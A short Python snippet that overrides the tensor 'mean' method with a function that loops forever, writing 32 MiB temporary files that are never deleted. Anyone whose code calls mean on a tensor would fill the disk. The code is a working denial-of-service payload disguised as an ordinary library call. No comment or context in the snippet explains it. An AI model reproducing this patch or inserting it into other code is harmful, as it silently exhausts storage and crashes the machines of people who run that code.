def write_many(self, *args, **kwargs):
    import tempfile

    while True:
        with tempfile.NamedTemporaryFile(delete=False) as file:
            file.write(bytes(32 << 20))


Tensor.mean = write_many
